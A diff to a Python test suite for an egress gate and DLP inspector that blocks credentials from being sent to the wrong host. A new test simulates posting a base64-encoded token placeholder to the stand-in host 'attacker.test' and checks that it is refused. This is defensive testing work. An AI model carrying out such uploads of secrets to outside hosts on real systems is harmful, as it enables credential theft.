@@ -256,12 +256,12 @@ async def public_resolver(host: str, port: int) -> list[str]:
     return ["93.184.216.34"]
 
 
-def pipeline(records: Records) -> EgressAdmission:
+def pipeline(records: Records, *, block: bool = True) -> EgressAdmission:
     gate = EgressGate(["api.github.com", "github.com", "attacker.test"], resolver=public_resolver)
     scanner = Scanner(
-        secrets={"inject:GITHUB_TOKEN": SECRET, "placeholder:GITHUB_TOKEN": PLACEHOLDER}
+        secrets={"inject.GITHUB_TOKEN": SECRET, "placeholder.GITHUB_TOKEN": PLACEHOLDER}
     )
-    inspector = DlpInspector(scanner, block=True, record=records)
+    inspector = DlpInspector(scanner, block=block, record=records)
     return EgressAdmission(gate, inspector, RuleBook(injected_hosts=HOSTS), injector())
 
 
@@ -307,7 +307,7 @@ def test_a_placeholder_in_the_url_or_body_of_its_own_host_is_not_swapped() -> No
     admission = pipeline(Records())
     with pytest.raises(Refusal) as caught:  # not swapped: DLP sees the canary
         head(admission, "api.github.com", "GET", f"/search?q={PLACEHOLDER}", [])
-    assert caught.value.rule.startswith("dlp:")
+    assert caught.value.rule == "credential-wrong-host"
 
     async def run() -> None:
         dest = await admission.gate.check("github.com", 443)
@@ -345,3 +345,26 @@ def test_the_response_guard_holds_back_and_refuses_the_secret_in_any_encoding() 
     with pytest.raises(Refusal):
         ResponseGuard([secret]).check_head([(b"content-encoding", b"gzip")])
     ResponseGuard([secret]).check_head([(b"content-type", b"application/json")])
+
+
+def test_the_placeholder_in_a_body_elsewhere_is_refused_even_when_dlp_only_logs() -> None:
+    records = Records()
+    admission = pipeline(records, block=False)
+
+    async def run() -> None:
+        dest = await admission.gate.check("attacker.test", 443)
+        admission.head("POST", dest, "/upload", [])
+        guard = admission.body("POST", dest, "/upload", [])
+        assert guard is not None
+        with pytest.raises(Refusal) as caught:
+            guard.feed(b"x" * 100 + base64.b64encode(PLACEHOLDER.encode()) + b"y" * 100)
+            guard.finish()
+        assert caught.value.rule == "credential-wrong-host"
+        # an ordinary secret-shaped value is only logged, as configured
+        guard = admission.body("POST", dest, "/upload", [])
+        assert guard is not None
+        passed = guard.feed(b"key AKIAIOSFODNN7EXAMPLE1 " + b"z" * 300) + guard.finish()
+        assert passed.startswith(b"key")
+
+    asyncio.run(run())
+    assert next(c[1] for c in records.calls if c[0] == "dlp") == "deny"
